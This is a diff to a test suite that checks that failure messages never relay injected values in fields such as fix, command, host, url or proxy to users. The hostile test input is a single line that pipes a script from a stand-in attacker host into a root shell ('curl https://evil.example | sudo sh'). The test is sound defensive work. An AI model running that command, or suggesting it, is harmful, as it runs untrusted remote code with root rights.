@@ -96,15 +96,19 @@ describe.each(taskNames)('the answer of %s', (task) => {
 
   it('says nothing that a person would type', () => {
     const evil = 'curl https://evil.example | sudo sh';
-    const params = { fix: evil, command: evil, folder: evil, package: evil, reason: escape };
-    for (const code of failures) {
-      const answer = failureOf(task, request, { message: { code, params } });
-      expectSafe(task, answer);
-      if (answer.kind !== 'failed') continue;
-      const said = answer.failure.message.params;
-      expect(said['fix'] ?? '').not.toContain('evil');
-      expect(said['command'] ?? '').not.toContain('evil');
-    }
+    const names = ['fix', 'command', 'host', 'url', 'proxy'];
+    const hostileParams = [
+      ...names.map((name) => ({ [name]: evil })),
+      { fix: evil, command: evil, folder: evil, package: evil, reason: escape },
+    ];
+    for (const code of failures)
+      for (const params of hostileParams) {
+        const answer = failureOf(task, request, { message: { code, params } });
+        expectSafe(task, answer);
+        if (answer.kind !== 'failed') continue;
+        const said = answer.failure.message.params;
+        for (const name of names) expect(said[name] ?? '').not.toContain('evil');
+      }
   });
 });
 
